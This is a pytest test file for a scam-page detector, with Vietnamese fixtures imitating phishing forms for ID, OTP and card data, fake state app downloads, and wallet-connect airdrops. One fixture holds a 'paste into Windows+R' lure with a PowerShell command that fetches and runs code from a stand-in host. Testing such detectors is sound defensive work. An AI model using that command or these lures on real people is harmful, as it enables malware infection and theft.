"""What people are talked into, and what warns of it."""

from __future__ import annotations

import pytest

from tests.unit.content.detectors.pages import alarms

FORM = '<form action="https://xac-nhan.example/s">{}</form>'
PACKAGE = '<p>Người dân tải ứng dụng để nhận tiền hỗ trợ.</p><a href="https://tai-ve.example/{}">Tải về</a>'
KEYS = "<p>Nhấn Windows + R, dán dòng sau (Ctrl+V) và Enter để xác minh:</p><code>{}</code>"
COMMAND = 'powershell -c "iwr https://sua.example/a | iex"'


@pytest.mark.parametrize(
    "fields",
    [
        '<input name="cccd"><input name="otp">',
        '<input placeholder="Số căn cước"><input placeholder="Số tài khoản ngân hàng">',
        '<input name="so_the"><input name="ngan_hang"><input name="cvv">',
        '<input name="dinh_danh"><input type="password">',
    ],
)
def test_a_form_for_identity_and_money_that_leads_away_is_told(fields: str) -> None:
    assert "asks_who_you_are" in alarms(FORM.format(fields))


@pytest.mark.parametrize(
    "fields",
    ['<input name="email">', '<input name="hoten"><input name="cccd">', '<input name="sdt"><input name="noi_dung">'],
)
def test_a_form_of_another_kind_is_not(fields: str) -> None:
    assert not alarms(FORM.format(fields))


@pytest.mark.parametrize(
    ("title", "file"),
    [
        ("Ứng dụng VNeID mức 2", "a.apk"),
        ("Cập nhật eTax Mobile", "etax.apk"),
        ("Dịch vụ công", "dvc.mobileconfig"),
        ("Tra cứu phạt nguội", "bienban.zip"),
        ("Cap nhat dinh danh dien tu", "setup.exe"),
    ],
)
def test_a_package_in_the_name_of_the_state_is_told(title: str, file: str) -> None:
    assert "package_of_others" in alarms(PACKAGE.format(file), title=title, path="/tai/")
    assert not alarms(PACKAGE.format(file), title=f"Cảnh báo giả mạo: {title}", path="/tin/1")


@pytest.mark.parametrize("file", ["unikey.zip", "htkk.exe", "mau-don.doc", "bao-cao.pdf"])
def test_other_files_of_others_are_not(file: str) -> None:
    assert not alarms(PACKAGE.format(file), title="Phần mềm kê khai thuế", path="/tai/")


def test_a_command_that_people_are_to_run_is_told_and_a_warning_is_not() -> None:
    assert "tells_to_run" in alarms(KEYS.format(COMMAND), path="/x")
    assert "tells_to_run" in alarms(KEYS.format(COMMAND) + "<p>Phòng chống lụt bão: bài khác</p>", path="/x")
    assert not alarms(KEYS.format(COMMAND), title="Cảnh báo thủ đoạn dán lệnh", path="/x")
    assert not alarms("<p>Tuyệt đối không nhấn Windows+R, dán lệnh rồi Enter để xác minh.</p>" + COMMAND, path="/x")
    assert not alarms(KEYS.format("services.msc"), path="/x")


def test_the_name_of_a_service_that_nobody_claims_is_told() -> None:
    from_service = "<html><title>404</title><h1>There isn't a GitHub Pages site here.</h1>"
    assert not alarms(from_service), "the page has a menu of its own"


def test_a_page_that_wants_to_be_let_into_a_wallet_is_told() -> None:
    button = "<h3>Airdrop đã mở</h3><button onclick=\"connectWallet('eth')\">Kết nối ví</button>"
    assert "asks_for_wallet" in alarms(button)
    assert not alarms("<p>Cảnh giác các trang airdrop yêu cầu kết nối ví.</p>")
